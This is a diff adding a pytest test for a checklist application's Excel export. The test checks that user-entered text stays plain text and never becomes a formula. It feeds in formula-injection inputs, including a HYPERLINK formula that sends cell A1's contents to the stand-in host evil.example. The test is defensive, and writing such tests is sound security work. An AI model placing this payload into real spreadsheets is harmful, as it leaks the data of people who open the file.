@@ -918,6 +918,27 @@ def test_the_excel_file_for_the_steering_group(engine: Engine) -> None:
     assert [v[5] for v in values[1:]] == ["Tulossa"] * 3
 
 
+def test_the_excel_file_keeps_user_text_as_text_never_a_formula(engine: Engine) -> None:
+    phase_id = int(_phases(engine).loc["mapping", "phase_id"])
+    typed = {
+        "title": "+SUM(1;2)",
+        "owner": "@johtoryhmä",
+        "note": '=HYPERLINK("https://evil.example/?"&A1;"Avaa")',
+    }
+    checklists.add_item(engine, COORDINATOR, JOENSUU, phase_id, **typed)
+    item = _ids(engine, "mapping")[0]
+    checklists.save_items(engine, COORDINATOR, [ItemEdit(item, 1, {"note": "-1+1"})])
+    raw = checklists.checklist_workbook(engine, COORDINATOR, JOENSUU)
+    book = load_workbook(io.BytesIO(raw))
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    by_value = {c.value: c for c in cells}
+    for text in [*typed.values(), "-1+1"]:
+        assert by_value[text].data_type == "s", text
+        assert by_value[text].quotePrefix, text  # Excel keeps it text even when edited
+    assert not by_value["Kuntakohtaisen tilanteen selvittäminen"].quotePrefix
+
+
 def test_the_excel_file_needs_the_export_right(engine: Engine) -> None:
     with pytest.raises(AccessDenied):
         checklists.checklist_workbook(engine, DIRECTOR, JOENSUU)
